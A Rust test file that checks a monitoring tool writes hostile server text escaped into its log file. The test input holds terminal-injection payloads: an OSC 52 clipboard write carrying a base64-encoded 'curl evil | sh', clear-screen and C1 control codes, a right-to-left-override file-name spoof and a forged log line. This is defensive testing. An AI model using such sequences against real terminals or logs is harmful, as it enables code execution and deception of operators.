//! The log file as `cat` or `tail -f` shows it: server text inside log events (a Redis
//! error carrying OSC 52 and clear-screen sequences) is written escaped.

#[test]
fn hostile_server_text_reaches_the_log_file_escaped() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("state").join("kitops-top.log");
    let (subscriber, flush_guard) =
        kitops_top::logging::file_subscriber(&path).expect("log file opens");
    let hostile = "ERR \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}[2J\u{9b}31m\u{202e}gnp.exe\u{2028}\nWARN fake";
    tracing::subscriber::with_default(subscriber, || {
        tracing::warn!(target: "kitops_top::collect::redis", error = %hostile, "collect failed: {hostile}");
    });
    drop(flush_guard);

    let text = std::fs::read_to_string(&path).expect("log written");
    let raw: Vec<char> = text
        .chars()
        .filter(|&c| kitops_top::escape::hazard(c).is_some() && c != '\n')
        .collect();
    assert!(raw.is_empty(), "raw in the log file: {raw:?}\n{text}");
    assert_eq!(text.lines().count(), 1, "one event, one line: {text}");
    assert!(text.ends_with('\n'));
    let shown =
        "ERR \\e]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\e[2J\\x9b31m\\u{202e}gnp.exe\\u{2028}\\nWARN fake";
    assert!(text.contains(&format!("error={shown}")), "{text}");
    // tracing-subscriber escapes ESC in the message itself (as `\x1b`), not bidi or
    // separators: those are escaped here, in both the message and the field.
    let tail = "\\u{202e}gnp.exe\\u{2028}\\nWARN fake";
    assert_eq!(text.matches(tail).count(), 2, "{text}");
}
